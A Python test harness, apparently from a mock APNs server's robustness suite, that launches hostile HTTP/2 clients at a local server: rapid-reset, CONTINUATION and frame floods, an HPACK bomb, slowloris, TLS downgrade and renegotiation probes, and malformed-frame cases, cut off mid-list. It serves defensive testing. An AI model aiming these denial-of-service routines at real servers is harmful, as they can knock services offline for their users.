"""Hostile and broken HTTP/2 clients against a running mock-apns, one subcommand per attack.

Each attack is bounded in count and time and prints one JSON summary on standard output: for every connection
it opened, the local port (the journal's ``remoteAddress`` names it), the streams it saw answered (with their
status), the streams it reset, the frames it received by type, the GOAWAY it got and how the connection ended.
With ``--probe``, a second process pushes on a well-behaved connection during the attack and the summary gets
its latency (``probe``). AttackTests (Tests/MockAPNsTests/EndToEnd/) runs these and checks the invariant: the
server keeps running, its memory stays bounded, the probe keeps being answered, and the journal holds exactly
one record per answered request.

Frames are written by hand (no h2 state machine) so that every rule can be broken; TLS runs through an
``ssl.SSLObject`` over memory BIOs on a non-blocking socket, so one thread can write without reading.

    .venv-clients/bin/python Tests/clients/attacks.py rapid-reset --port 2197 --count 20000 --complete --probe
    .venv-clients/bin/python Tests/clients/attacks.py malformed --port 2197
"""

import argparse
import json
import os
import random
import select
import socket
import ssl
import struct
import subprocess
import sys
import time
import warnings

import hpack
import jwt

warnings.simplefilter("ignore", DeprecationWarning)  # TLS 1.0 and 1.1 on purpose
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
LIVE_TOKEN = "0123456789abcdef" * 4
ALERT = json.dumps({"aps": {"alert": {"title": "Order ready", "body": "Your food is on its way"}}}).encode()
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
FRAME_NAMES = ["DATA", "HEADERS", "PRIORITY", "RST_STREAM", "SETTINGS", "PUSH_PROMISE", "PING", "GOAWAY",
               "WINDOW_UPDATE", "CONTINUATION"]
END_STREAM, ACK, END_HEADERS, PADDED, PRIORITY_FLAG = 0x1, 0x1, 0x4, 0x8, 0x20
ERROR_NAMES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT",
               "STREAM_CLOSED", "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR",
               "CONNECT_ERROR", "ENHANCE_YOUR_CALM", "INADEQUATE_SECURITY", "HTTP_1_1_REQUIRED"]


def error_name(code):
    return ERROR_NAMES[code] if code < len(ERROR_NAMES) else "0x%x" % code


def frame(kind, flags=0, stream=0, payload=b"", length=None):
    """One frame; ``length`` overrides the header's length field (a lie about the payload)."""
    size = len(payload) if length is None else length
    return struct.pack(">I", size)[1:] + bytes([kind, flags]) + struct.pack(">I", stream & 0xFFFFFFFF) + payload


def settings(*pairs, ack=False):
    return frame(SETTINGS, ACK if ack else 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def provider_token(args):
    with open(args.p8, "rb") as handle:
        key = handle.read()
    return jwt.encode({"iss": args.team, "iat": int(time.time())}, key, algorithm="ES256",
                      headers={"kid": args.key_id})


class Closed(Exception):
    pass


# The journal names a connection by the client's address, so no two connections of one attack may share a local
# port: attack connections bind ports below Linux's ephemeral range (32768-60999), which the probe process and
# the kernel's own choices use, each port at most once per run.
NEXT_PORT = [random.randrange(20000, 24000)]


def bound_socket(unique_port):
    while True:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if not unique_port:
            return sock
        port = NEXT_PORT[0]
        NEXT_PORT[0] += 1
        if port > 32000:
            raise Closed("out of distinct local ports for this run")
        try:
            sock.bind(("127.0.0.1", port))
            return sock
        except OSError:
            sock.close()


class Conn:
    """One client connection: TLS over memory BIOs (or cleartext), hand-written frames, a frame parser."""

    def __init__(self, args, tls=True, alpn=("h2",), connect_timeout=5, rcvbuf=None, unique_port=True):
        self.args = args
        self.sock = bound_socket(unique_port and args.attack != "probe" and args.attack != "churn")
        if rcvbuf:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        self.sock.settimeout(connect_timeout)
        self.sock.connect((args.address, args.port if tls else args.cleartext_port))
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.sock.setblocking(False)
        self.port = self.sock.getsockname()[1]
        self.out = bytearray()  # bytes for the socket (already encrypted)
        self.inbuf = bytearray()  # cleartext bytes not yet parsed into frames
        self.closed = False
        self.end = None  # how the connection ended: "goaway", "eof", "reset", "timeout"
        self.received = {}  # frame type name -> count
        self.answers = {}  # stream -> :status
        self.resets_received = {}  # stream -> error name
        self.goaway = None
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 65536
        self.header_block = None  # (stream, bytes) while a server header block continues
        self.encoder = hpack.Encoder()
        self.sent_resets = set()
        self.ping_acks = 0
        self.auto_ack = True  # answer the server's SETTINGS (not while a slow preface is still on its way)
        self.tls = None
        if tls:
            context = ssl.create_default_context(cafile=args.ca)
            context.check_hostname = False
            if alpn:
                context.set_alpn_protocols(list(alpn))
            self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
            self.tls = context.wrap_bio(self.incoming, self.outgoing, server_hostname=args.host)
            self.handshake(connect_timeout)

    # -- bytes ------------------------------------------------------------------------------------------------

    def handshake(self, timeout):
        deadline = time.monotonic() + timeout
        while True:
            try:
                self.tls.do_handshake()
                break
            except ssl.SSLWantReadError:
                self._flush_tls()
                self.pump(0.05, parse=False)
                if self.closed:
                    raise Closed("closed during the TLS handshake")
                if time.monotonic() > deadline:
                    raise Closed("TLS handshake timed out")
        self._flush_tls()
        self.pump(0, parse=False)

    def _flush_tls(self):
        if self.tls is not None:
            self.out += self.outgoing.read()

    def send(self, data):
        """Queues ``data`` (cleartext) and writes as much as the socket takes."""
        if self.tls is not None:
            view = memoryview(data)
            for start in range(0, len(view), 16384):
                self.tls.write(view[start:start + 16384])
            self._flush_tls()
        else:
            self.out += data
        self.pump(0, read=False)

    def pump(self, timeout, read=True, parse=True):
        """One round: write what the socket takes, read what arrived (if ``read``), parse frames."""
        if self.closed:
            return
        readers = [self.sock] if read else []
        writers = [self.sock] if self.out else []
        if not readers and not writers:
            return
        try:
            readable, writable, _ = select.select(readers, writers, [], timeout)
        except ValueError:
            self.closed = True
            return
        if writable and self.out:
            try:
                sent = self.sock.send(self.out)
                del self.out[:sent]
            except (BlockingIOError, InterruptedError):
                pass
            except OSError:
                self._close("reset")
                return
        if readable:
            try:
                chunk = self.sock.recv(262144)
            except (BlockingIOError, InterruptedError):
                chunk = None
            except OSError:
                self._close("reset")
                return
            if chunk == b"":
                self._close(self.end or "eof")
                return
            if chunk:
                if self.tls is None:
                    self.inbuf += chunk
                else:
                    self.incoming.write(chunk)
                    while True:
                        try:
                            data = self.tls.read(262144)
                        except ssl.SSLWantReadError:
                            break
                        except ssl.SSLError as error:
                            self.tls_error = str(error)
                            self._close("tls-error")
                            return
                        if not data:
                            self._close(self.end or "eof")
                            break
                        self.inbuf += data
                    self._flush_tls()
                if parse:
                    self._parse()

    def _close(self, how):
        self.closed = True
        self.end = self.end or how
        try:
            self.sock.close()
        except OSError:
            pass

    def flush(self):
        """Writes until everything queued is out or the connection closes, reading meanwhile; then one more read."""
        while self.out and not self.closed:
            self.pump(0.05)
        self.pump(0)

    def drain(self, seconds, until=None):
        """Reads and writes for up to ``seconds``, or until ``until()`` is true or the connection closes."""
        deadline = time.monotonic() + seconds
        while not self.closed and time.monotonic() < deadline:
            if until is not None and until():
                return True
            self.pump(min(0.05, max(0, deadline - time.monotonic())))
        return until() if until is not None else False

    def close(self):
        if not self.closed:
            self._close(self.end or "client-close")

    # -- frames -----------------------------------------------------------------------------------------------

    def _parse(self):
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[0:3], "big")
            if len(self.inbuf) < 9 + length:
                return
            kind, flags = self.inbuf[3], self.inbuf[4]
            stream = int.from_bytes(self.inbuf[5:9], "big") & 0x7FFFFFFF
            payload = bytes(self.inbuf[9:9 + length])
            del self.inbuf[:9 + length]
            name = FRAME_NAMES[kind] if kind < len(FRAME_NAMES) else "0x%x" % kind
            self.received[name] = self.received.get(name, 0) + 1
            self._frame(kind, flags, stream, payload)

    def _frame(self, kind, flags, stream, payload):
        if kind == HEADERS or kind == CONTINUATION:
            if kind == HEADERS:
                if flags & PADDED:
                    payload = payload[1:len(payload) - payload[0]]
                if flags & PRIORITY_FLAG:
                    payload = payload[5:]
                self.header_block = (stream, bytearray(payload))
            elif self.header_block is not None:
                self.header_block[1].extend(payload)
            if flags & END_HEADERS and self.header_block is not None:
                block_stream, block = self.header_block
                self.header_block = None
                headers = self.decoder.decode(bytes(block), raw=False)
                status = next((value for name, value in headers if name == ":status"), None)
                if status is not None and block_stream not in self.answers:
                    self.answers[block_stream] = int(status)
        elif kind == RST_STREAM and len(payload) == 4:
            self.resets_received[stream] = error_name(int.from_bytes(payload, "big"))
        elif kind == GOAWAY and len(payload) >= 8:
            self.goaway = {
                "lastStreamID": int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF,
                "error": error_name(int.from_bytes(payload[4:8], "big")),
                "debug": payload[8:].decode("utf-8", "replace"),
            }
            self.end = "goaway"
        elif kind == SETTINGS and not flags & ACK and self.auto_ack:
            self.send(settings(ack=True))
        elif kind == PING and flags & ACK:
            self.ping_acks += 1

    def start_h2(self, window=16 * 1024 * 1024, extra_settings=()):
        """The preface, SETTINGS (a large stream window unless told) and a large connection window."""
        self.send(PREFACE + settings((4, min(window, 2**31 - 1)), *extra_settings))
        if window > 65535:
            self.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", window - 65535)))

    def header_block_for(self, stream_path="/3/device/" + LIVE_TOKEN, token=None, extra=(), indexed=True):
        fields = [(":method", "POST"), (":scheme", "https"), (":path", stream_path), (":authority", self.args.host),
                  ("apns-topic", self.args.topic), ("apns-push-type", "alert")]
        if token:
            fields.append(("authorization", "bearer " + token))
        fields.extend(extra)
        if indexed:
            return self.encoder.encode(fields)
        return hpack.Encoder().encode(fields)  # a fresh encoder: no reference to our dynamic table

    def request(self, stream, token, body=ALERT, path="/3/device/" + LIVE_TOKEN, end_stream=True):
        """HEADERS then one DATA frame (END_STREAM unless told) as bytes, not yet sent."""
        block = self.header_block_for(path, token)
        return (frame(HEADERS, END_HEADERS, stream, block)
                + frame(DATA, END_STREAM if end_stream else 0, stream, body))

    def summary(self):
        return {
            "port": self.port, "answers": {str(k): v for k, v in sorted(self.answers.items())},
            "resetsSent": sorted(self.sent_resets),
            "resetsReceived": {str(k): v for k, v in self.resets_received.items()},
            "received": self.received, "goaway": self.goaway, "end": self.end or ("open" if not self.closed else None),
        }


def warm_up(conn, token):
    """One good push answered first, so the server lifts its one-stream limit (fidelity.singleStreamUntil...)."""
    conn.start_h2()
    conn.send(conn.request(1, token))
    conn.drain(5, until=lambda: 1 in conn.answers)
    return 3


# -- the probe -------------------------------------------------------------------------------------------------


def probe(args):
    """Pushes on one well-behaved connection every --interval until standard input closes or --duration ends."""
    token = provider_token(args)
    latencies, failures, reconnects, connections = [], 0, 0, []
    deadline = time.monotonic() + args.duration
    conn, stream = None, 1
    os.set_blocking(sys.stdin.fileno(), False)
    ready = False
    while time.monotonic() < deadline:
        try:
            if sys.stdin.buffer.read() == b"":
                break
        except (BlockingIOError, TypeError):
            pass
        if conn is None or conn.closed or stream > 2**31 - 10:
            if conn is not None:
                connections.append(conn.summary())
                reconnects += 1
            try:
                conn, stream = Conn(args), 1
                conn.start_h2()
            except (OSError, Closed):
                failures += 1
                conn = None
                time.sleep(args.interval)
                continue
        started = time.monotonic()
        conn.send(conn.request(stream, token))
        this = stream
        if conn.drain(10, until=lambda: this in conn.answers):
            latencies.append((time.monotonic() - started) * 1000)
            if not ready:
                ready = True
                print("ready", flush=True)
        else:
            failures += 1
        stream += 2
        time.sleep(args.interval)
    if conn is not None:
        conn.close()
        connections.append(conn.summary())
    latencies.sort()

    def percentile(p):
        return round(latencies[min(len(latencies) - 1, int(len(latencies) * p))], 2) if latencies else None

    print(json.dumps({"answered": len(latencies), "failures": failures, "reconnects": reconnects,
                      "p50ms": percentile(0.5), "p99ms": percentile(0.99),
                      "maxms": round(latencies[-1], 2) if latencies else None, "connections": connections}))


class Probe:
    """The probe in its own process (its own GIL), stopped by closing its standard input."""

    def __init__(self, args):
        self.process = None
        if not args.probe:
            return
        command = [sys.executable, os.path.abspath(__file__), "probe", "--port", str(args.port), "--ca", args.ca,
                   "--p8", args.p8, "--team", args.team, "--key-id", args.key_id, "--topic", args.topic,
                   "--duration", str(args.time + 30)]
        self.process = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        self.first = self.process.stdout.readline()  # "ready" once its first push was answered

    def finish(self):
        if self.process is None:
            return None
        try:
            out, _ = self.process.communicate(input=b"", timeout=30)  # an empty input closes its stdin
            return json.loads(out.decode().strip().splitlines()[-1] if out.strip() else "null")
        except (subprocess.TimeoutExpired, ValueError) as error:
            self.process.kill()
            return {"error": str(error)}


# -- the attacks -----------------------------------------------------------------------------------------------


def new_conn(args, conns, **options):
    conn = Conn(args, **options)
    conns.append(conn)
    return conn


def rapid_reset(args, conns, token):
    """HEADERS (with a whole request when --complete) then RST_STREAM at once, in batches, new connections as
    the server closes them, until --count streams or --time seconds."""
    sent, deadline = 0, time.monotonic() + args.time
    while sent < args.count and time.monotonic() < deadline:
        conn = new_conn(args, conns)
        stream = warm_up(conn, token)
        while sent < args.count and not conn.closed and time.monotonic() < deadline:
            batch = bytearray()
            for _ in range(min(args.batch, args.count - sent)):
                if args.complete:
                    batch += conn.request(stream, token)
                else:
                    batch += frame(HEADERS, END_HEADERS, stream, conn.header_block_for(token=token))
                batch += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                conn.sent_resets.add(stream)
                stream += 2
                sent += 1
            conn.send(bytes(batch))
            conn.flush()
        conn.drain(2)
        conn.close()
    return {"streams": sent}


def continuation_flood(args, conns, token):
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end the block; on a new connection when
    the server closes one: --count frames in all, or --time seconds."""
    sent, deadline = 0, time.monotonic() + args.time
    filler = b"\x00\x01a\x01b" * (args.frame_size // 5)  # literal headers a: b, repeated
    while sent < args.count and time.monotonic() < deadline:
        conn = new_conn(args, conns)
        stream = warm_up(conn, token)
        conn.send(frame(HEADERS, 0, stream, conn.header_block_for(token=token)))
        while sent < args.count and not conn.closed and time.monotonic() < deadline:
            conn.send(frame(CONTINUATION, 0, stream, filler) * 16)
            sent += 16
            conn.flush()
        conn.drain(0.5)
        conn.close()
    return {"continuations": sent}


def hpack_bomb(args, conns, token):
    """A 4 KiB header value put into the dynamic table once, then referenced thousands of times per block, on
    --count streams; then one header block far over any limit, in CONTINUATION frames."""
    conn = new_conn(args, conns)
    stream = warm_up(conn, token)
    big = b"x" * 4000
    # Literal with incremental indexing, new name: it becomes dynamic-table entry 62.
    insert = b"\x40" + hpack_string(b"x-bomb") + hpack_string(big)
    sent = 0
    for _ in range(args.count):
        if conn.closed:
            break
        base = hpack.Encoder().encode([(":method", "POST"), (":scheme", "https"),
                                       (":path", "/3/device/" + LIVE_TOKEN), (":authority", args.host)])
        block = base + insert + b"\xbe" * 16000  # 16,000 references: 64 MB once decoded
        conn.send(frame(HEADERS, END_HEADERS, stream, block[:16384]) if len(block) <= 16384 else
                  frame(HEADERS, 0, stream, block[:16384]) + frame(CONTINUATION, END_HEADERS, stream, block[16384:]))
        conn.send(frame(DATA, END_STREAM, stream, ALERT))
        stream += 2
        sent += 1
        conn.pump(0)
    conn.drain(2)
    oversized = None
    if not conn.closed:
        # Literal bytes (hpack's own encoder Huffman-codes a megabyte for minutes).
        huge = b"\x83\x87\x00" + hpack_string(b":path") + hpack_string(("/3/device/" + LIVE_TOKEN).encode()) \
            + b"\x00" + hpack_string(b"x-huge") + hpack_string(b"y" * 1_000_000)
        chunks = [huge[i:i + 16384] for i in range(0, len(huge), 16384)]
        out = bytearray(frame(HEADERS, 0, stream, chunks[0]))
        for index, chunk in enumerate(chunks[1:], 1):
            out += frame(CONTINUATION, END_HEADERS if index == len(chunks) - 1 else 0, stream, chunk)
        conn.send(bytes(out) + frame(DATA, END_STREAM, stream, ALERT))
        conn.drain(3, until=lambda: stream in conn.resets_received or stream in conn.answers)
        oversized = stream
    conn.close()
    return {"bombs": sent, "oversizedStream": oversized}


def hpack_string(data):
    if len(data) < 127:
        return bytes([len(data)]) + data
    out, rest = bytearray([127]), len(data) - 127
    while rest >= 128:
        out.append(rest % 128 | 0x80)
        rest //= 128
    out.append(rest)
    return bytes(out) + data


FLOODS = {
    "settings": lambda conn, i: settings((1, 4096 + i % 2)),
    "ping": lambda conn, i: frame(PING, 0, 0, struct.pack(">Q", i)),
    "window-update": lambda conn, i: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)),
    "priority": lambda conn, i: frame(PRIORITY, 0, 2 * i + 1001, struct.pack(">IB", 0, 15)),
    "empty-data": lambda conn, i: frame(DATA, 0, conn.flood_stream, b""),
}


def flood(args, conns, token):
    """Frames of one kind (--kind), written as fast as the socket takes them and read meanwhile; when the server
    closes the connection, on a new one: --count frames in all, or --time seconds."""
    make, sent, deadline = FLOODS[args.kind], 0, time.monotonic() + args.time
    while sent < args.count and time.monotonic() < deadline:
        conn = new_conn(args, conns)
        stream = warm_up(conn, token)
        if args.kind == "empty-data":
            conn.flood_stream = stream
            conn.send(frame(HEADERS, END_HEADERS, stream, conn.header_block_for(token=token)))
        while sent < args.count and not conn.closed and time.monotonic() < deadline:
            count = min(args.batch, args.count - sent)
            conn.send(b"".join(make(conn, sent + i) for i in range(count)))
            sent += count
            conn.flush()
        # A request at the end: a server that survived the flood on this connection still answers it.
        last = stream + 2
        if not conn.closed:
            if args.kind == "empty-data":
                conn.send(frame(DATA, END_STREAM, stream, ALERT))
            conn.send(conn.request(last, token))
            conn.drain(5, until=lambda: last in conn.answers)
        conn.drain(0.2)
        conn.close()
    return {"frames": sent, "kind": args.kind}


def no_read(args, conns, token):
    """Announces a zero stream window and a tiny socket buffer, pushes --count requests, reads nothing for
    --stall seconds (the answers fill the socket buffers), then opens the window and reads everything."""
    conn = new_conn(args, conns, rcvbuf=4096)
    stream = warm_up(conn, token)
    conn.send(settings((4, 0)))
    conn.drain(1, until=lambda: False)
    sent, deadline = 0, time.monotonic() + args.time
    while sent < args.count and not conn.closed and time.monotonic() < deadline:
        batch = bytearray()
        for _ in range(min(args.batch, args.count - sent)):
            batch += conn.request(stream, token)
            stream += 2
            sent += 1
        conn.send(bytes(batch))
        stall = time.monotonic() + 5
        while conn.out and not conn.closed and time.monotonic() < stall:
            conn.pump(0.05, read=False)
        if conn.out:
            break  # the server stopped reading: it is pushing back, as it should
    unsent = len(conn.out)
    time.sleep(args.stall)
    conn.send(settings((4, 16 * 1024 * 1024)))
    last = stream - 2
    conn.drain(20, until=lambda: last in conn.answers or last in conn.resets_received or not conn.out and
               len(conn.answers) + len(conn.resets_received) >= sent)
    conn.close()
    return {"requests": sent, "unsentBytesWhenStalled": unsent}


def slowloris(args, conns, token):
    """--count connections each of: a ClientHello a byte at a time (hello), the HTTP/2 preface a byte at a time
    after the handshake (preface), and nothing after the preface and SETTINGS (idle). Watches for --time seconds
    after the last one opens when the server closes each; connections it never closes are counted as open.

    A connection's closedAfter counts from its own opening (before its TCP connect), not from the start of the
    attack: opening 300 connections one after another, 200 of them with a TLS handshake, takes seconds on a loaded
    machine, and the idle ones open last. The open connections are also watched while the others are being opened
    (every tenth opening), so a close is seen within about that long."""
    modes = args.modes.split(",")
    groups = {mode: [] for mode in modes}

    def watch(entry):
        """Sends the entry's next byte and reads what came; notes when the server closed it."""
        conn = entry.get("conn")
        if conn is not None:
            if entry["pending"] and entry["sent"] < len(entry["pending"]):
                conn.send(entry["pending"][entry["sent"]:entry["sent"] + 1])
                entry["sent"] += 1
            conn.pump(0)
            if conn.closed:
                entry["closedAfter"] = round(time.monotonic() - entry["opened"], 2)
                entry["goaway"] = conn.goaway
            return
        sock = entry["sock"]
        try:
            if entry["sent"] < len(entry["pending"]):
                sock.send(entry["pending"][entry["sent"]:entry["sent"] + 1])
                entry["sent"] += 1
            while True:
                chunk = sock.recv(65536)
                if not chunk:
                    raise ConnectionResetError
        except (BlockingIOError, InterruptedError):
            pass
        except OSError:
            entry["closedAfter"] = round(time.monotonic() - entry["opened"], 2)
            sock.close()

    def watch_all():
        """One pass over the connections not yet closed; whether any was left."""
        left = False
        for entries in groups.values():
            for entry in entries:
                if entry["closedAfter"] is None:
                    left = True
                    watch(entry)
        return left

    opened_count = 0
    for mode in modes:
        for _ in range(args.count):
            opened = time.monotonic()
            try:
                sock = socket.create_connection((args.address, args.port), timeout=5)
            except OSError:
                continue
            entry = {"sock": sock, "opened": opened, "closedAfter": None, "sent": 0, "goaway": None,
                     "buffer": bytearray()}
            if mode == "hello":
                context = ssl.create_default_context(cafile=args.ca)
                context.check_hostname = False
                context.set_alpn_protocols(["h2"])
                incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
                tls = context.wrap_bio(incoming, outgoing, server_hostname=args.host)
                try:
                    tls.do_handshake()
                except ssl.SSLWantReadError:
                    pass
                entry["pending"] = outgoing.read()
            else:
                sock.close()
                conn = Conn(args)
                entry["conn"], entry["sock"] = conn, conn.sock
                conn.auto_ack = mode != "preface"
                entry["pending"] = PREFACE if mode == "preface" else b""
                if mode == "idle":
                    conn.start_h2()
                conns.append(conn)
            entry["sock"].setblocking(False)
            groups[mode].append(entry)
            opened_count += 1
            if opened_count % 10 == 0:
                watch_all()
    deadline = time.monotonic() + args.time
    while time.monotonic() < deadline and watch_all():
        time.sleep(args.interval)
    result = {}
    for mode, entries in groups.items():
        closed = [e["closedAfter"] for e in entries if e["closedAfter"] is not None]
        reasons = sorted({(e["goaway"] or {}).get("debug", "") for e in entries if e["goaway"]})
        result[mode] = {"connections": len(entries), "closed": len(closed), "open": len(entries) - len(closed),
                        "maxClosedAfter": max(closed) if closed else None,
                        "bytesSentMax": max((e["sent"] for e in entries), default=0), "goawayDebug": reasons}
        for entry in entries:
            if entry["closedAfter"] is None:
                (entry.get("conn") or entry["sock"]).close()
    return {"modes": result}


def churn(args, conns, token):
    """Connect, push once, close: --count cycles or --time seconds, whichever ends first. Keeps only totals."""
    cycles, answered, failed = 0, 0, 0
    deadline = time.monotonic() + args.time
    answered_by_port = {}
    while cycles < args.count and time.monotonic() < deadline:
        cycles += 1
        try:
            conn = Conn(args)
            conn.start_h2(window=65535)
            conn.send(conn.request(1, token))
            if conn.drain(5, until=lambda: 1 in conn.answers):
                answered += 1
                answered_by_port[conn.port] = answered_by_port.get(conn.port, 0) + 1
            else:
                failed += 1
            if cycles % 2:
                conn.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # an RST
            conn.close()
        except (OSError, Closed):
            failed += 1
    return {"cycles": cycles, "answered": answered, "failed": failed,
            "portsReused": sum(1 for count in answered_by_port.values() if count > 1)}


def garbage(args, conns, token):
    """Each case on a fresh connection: what came back, and whether the server closed."""
    cases = {}

    def raw_case(name, payload, read_seconds=2):
        sock = socket.create_connection((args.address, args.port), timeout=read_seconds)
        received = bytearray()
        closed = False
        try:
            sock.sendall(payload)
            deadline = time.monotonic() + read_seconds
            while time.monotonic() < deadline:
                chunk = sock.recv(65536)
                if not chunk:
                    closed = True
                    break
                received += chunk
        except socket.timeout:
            pass
        except OSError:
            closed = True
        finally:
            sock.close()
        cases[name] = {"closed": closed, "bytes": len(received),
                       "firstLine": received.split(b"\r\n")[0][:80].decode("latin-1"),
                       "tlsAlert": len(received) >= 7 and received[0] == 0x15}

    raw_case("random-before-tls", bytes(random.getrandbits(8) for _ in range(4096)))
    raw_case("http1-on-tls-port", b"POST /3/device/" + LIVE_TOKEN.encode() + b" HTTP/1.1\r\nHost: x\r\n\r\n")
    raw_case("h2c-upgrade-on-tls-port", b"GET / HTTP/1.1\r\nHost: x\r\nConnection: Upgrade, HTTP2-Settings\r\n"
             b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n")
    raw_case("h2-prior-knowledge-on-tls-port", PREFACE + settings())

    for name, tail in (("random-after-tls", bytes(random.getrandbits(8) for _ in range(4096))),
                       ("random-after-preface", None)):
        conn = new_conn(args, conns)
        if tail is None:
            conn.start_h2()
            conn.send(bytes(random.getrandbits(8) for _ in range(4096)))
        else:
            conn.send(tail)
        conn.drain(3)
        cases[name] = {"closed": conn.closed, "goaway": conn.goaway, "end": conn.end}
        conn.close()

    for version, name in (("TLSv1", "tls-1.0"), ("TLSv1_1", "tls-1.1")):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        try:
            context.set_ciphers("DEFAULT:@SECLEVEL=0")
            context.minimum_version = getattr(ssl.TLSVersion, version)
            context.maximum_version = getattr(ssl.TLSVersion, version)
        except (ValueError, ssl.SSLError) as error:
            cases[name] = {"refused": None, "clientError": str(error)}
            continue
        try:
            with socket.create_connection((args.address, args.port), timeout=5) as sock:
                with context.wrap_socket(sock, server_hostname=args.host) as tls:
                    cases[name] = {"refused": False, "version": tls.version()}
        except (ssl.SSLError, OSError) as error:
            cases[name] = {"refused": True, "error": str(error)[:160]}

    cases["renegotiation"] = renegotiate(args)
    return {"cases": cases}


def renegotiate(args):
    """A TLS 1.2 client-initiated renegotiation (pyOpenSSL: Python's ssl cannot renegotiate). Reports whether
    the server answered with an alert, closed, or left the client waiting (``hung``)."""
    try:
        from OpenSSL import SSL
    except ImportError as error:
        return {"error": "pyOpenSSL missing: %s" % error}
    context = SSL.Context(SSL.TLS_CLIENT_METHOD)
    context.set_max_proto_version(SSL.TLS1_2_VERSION)
    context.set_alpn_protos([b"h2"])
    sock = socket.create_connection((args.address, args.port), timeout=5)
    sock.setblocking(False)
    tls = SSL.Connection(context, sock)
    tls.set_connect_state()
    tls.set_tlsext_host_name(args.host.encode())
    outcome = {"version": None, "alert": None, "closed": False, "hung": False, "renegotiated": False}

    def until_done(step, seconds):
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            try:
                return step()
            except SSL.WantReadError:
                select.select([sock], [], [], 0.05)
        raise TimeoutError

    started = time.monotonic()
    try:
        until_done(tls.do_handshake, 5)
        outcome["version"] = tls.get_protocol_version_name()
        # Take the server's SETTINGS first: application data arriving mid-renegotiation fails the client.
        tls.send(PREFACE + settings())
        until_done(lambda: tls.recv(65536), 4)
        time.sleep(0.2)
        try:
            tls.recv(65536)
        except SSL.WantReadError:
            pass
        started = time.monotonic()
        if not tls.renegotiate():
            outcome["error"] = "the client library refused to start a renegotiation"
            return outcome
        until_done(tls.do_handshake, 4)
        outcome["renegotiated"] = tls.total_renegotiations() > 0
        tls.send(frame(PING, 0, 0, bytes(8)))
        if until_done(lambda: tls.recv(65536), 4) == b"":
            outcome["closed"] = True
    except SSL.ZeroReturnError:
        outcome["closed"] = True
    except SSL.SysCallError as error:
        outcome["closed"] = True
        outcome["error"] = str(error)[:200]
    except SSL.Error as error:
        outcome["alert"] = str(error)[:200]
        outcome["closed"] = True
    except TimeoutError:
        outcome["hung"] = True
    finally:
        outcome["seconds"] = round(time.monotonic() - started, 2)
        sock.close()
    return outcome


# Frames sent after a good preface, SETTINGS and (for "open stream" cases) HEADERS without END_STREAM on
# stream 1. The tests hold the answers RFC 9113 asks for; this only sends and reports what came back.
def malformed_cases(conn, token):
    block = conn.header_block_for(token=token, indexed=False)
    open1 = frame(HEADERS, END_HEADERS, 1, block)
    done1 = frame(HEADERS, END_HEADERS, 1, block) + frame(DATA, END_STREAM, 1, ALERT)
    return {
        "data-on-stream-0": frame(DATA, 0, 0, b"x"),
        "headers-on-stream-0": frame(HEADERS, END_HEADERS, 0, block),
        "priority-on-stream-0": frame(PRIORITY, 0, 0, struct.pack(">IB", 1, 15)),
        "rst-on-stream-0": frame(RST_STREAM, 0, 0, struct.pack(">I", 8)),
        "settings-on-stream-1": frame(SETTINGS, 0, 1, b""),
        "ping-on-stream-1": frame(PING, 0, 1, bytes(8)),
        "goaway-on-stream-1": frame(GOAWAY, 0, 1, bytes(8)),
        "headers-on-even-stream": frame(HEADERS, END_HEADERS | END_STREAM, 2, block),
        "data-on-idle-stream": frame(DATA, 0, 5, b"x"),
        "rst-on-idle-stream": frame(RST_STREAM, 0, 5, struct.pack(">I", 8)),
        "window-update-on-idle-stream": frame(WINDOW_UPDATE, 0, 5, struct.pack(">I", 1)),
        "continuation-without-headers": frame(CONTINUATION, END_HEADERS, 1, block),
        "continuation-on-other-stream": frame(HEADERS, 0, 1, block) + frame(CONTINUATION, END_HEADERS, 3, b""),
        "ping-inside-header-block": frame(HEADERS, 0, 1, block) + frame(PING, 0, 0, bytes(8)),
        "push-promise-from-client": open1 + frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + block),
        "priority-length-4": open1 + frame(PRIORITY, 0, 1, bytes(4)),
        "rst-length-3": open1 + frame(RST_STREAM, 0, 1, bytes(3)),
        "settings-length-5": frame(SETTINGS, 0, 0, bytes(5)),
        "settings-ack-with-payload": frame(SETTINGS, ACK, 0, struct.pack(">HI", 1, 0)),
        "ping-length-7": frame(PING, 0, 0, bytes(7)),
        "goaway-length-4": frame(GOAWAY, 0, 0, bytes(4)),
        "window-update-length-3": frame(WINDOW_UPDATE, 0, 0, bytes(3)),
        "settings-enable-push-2": settings((2, 2)),
        "settings-initial-window-too-large": settings((4, 2**31)),
        "settings-max-frame-size-too-small": settings((5, 16383)),
        "settings-max-frame-size-too-large": settings((5, 2**24)),
        "window-update-0-on-connection": frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0)),
